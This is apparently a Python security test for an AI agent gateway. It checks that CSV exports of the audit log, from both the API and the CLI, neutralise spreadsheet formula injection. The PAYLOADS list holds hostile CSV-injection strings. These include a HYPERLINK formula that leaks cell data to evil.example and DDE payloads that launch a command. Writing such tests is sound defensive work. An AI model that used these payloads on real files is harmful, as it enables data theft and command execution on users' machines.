"""F22 (CSV export): a file the model reads puts a spreadsheet formula into the audit log;
the CSV export (REST API and CLI) must hand it to the spreadsheet as text.

The attack runs end to end: a real ``read_file`` call through the gateway writes the file's
content into the real SQLite audit log as the call's result, then ``GET
/v1/audit/export?format=csv`` and ``bastion audit export -f csv`` (a real process) export it.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from fastapi.testclient import TestClient

from bastion.app import build_app
from bastion.config.model import ApiConfig, Config, MemoryConfig
from bastion.memory.base import EphemeralMemory
from bastion.messages import ToolCall
from bastion.server.app import create_app
from bastion.testing import ScriptedModel

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "tok-csv-export-0123456789"
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(\"https://evil.example/\")",  # full-width equals sign
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: they start with a formula trigger."""
    return [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")]


async def test_exported_csv_has_no_live_formula(tmp_path: Path, bastion_home: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    config = Config(api=ApiConfig(token=TOKEN), memory=MemoryConfig(semantic=False))
    config.agent.workspace = ws
    app = build_app(config, model=ScriptedModel(), memory=EphemeralMemory())
    try:
        for i, payload in enumerate(PAYLOADS):
            (ws / f"f{i}.txt").write_text(payload, newline="")
            res = await app.gateway.execute(ToolCall("read_file", {"path": f"f{i}.txt"}))
            assert res.ok, res.text
        app.audit.flush()
        with TestClient(create_app(app), headers={"Authorization": f"Bearer {TOKEN}"}) as client:
            resp = client.get("/v1/audit/export?format=csv&kind=tool_call")
        assert resp.status_code == 200, resp.text
        api_csv = resp.text
    finally:
        await app.aclose()
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    cli = subprocess.run([sys.executable, "-m", "bastion", "audit", "export", "-f", "csv",
                          "--kind", "tool_call"], env=env, capture_output=True,
                         timeout=120, cwd=tmp_path)  # bytes: a CR in a cell must survive
    assert cli.returncode == 0, cli.stderr
    for where, text in (("API", api_csv), ("CLI", cli.stdout.decode())):
        results = [c for c in _cells(text) if any(p[1:12] in c for p in PAYLOADS)]
        assert len(results) >= len(PAYLOADS), (where, text)  # the payloads were exported
        assert not _formulas(text), f"{where} export has live formulas: {_formulas(text)}"
        for payload in PAYLOADS:  # and they read back as the exact text, behind one quote
            assert "'" + payload in _cells(text), (where, payload)
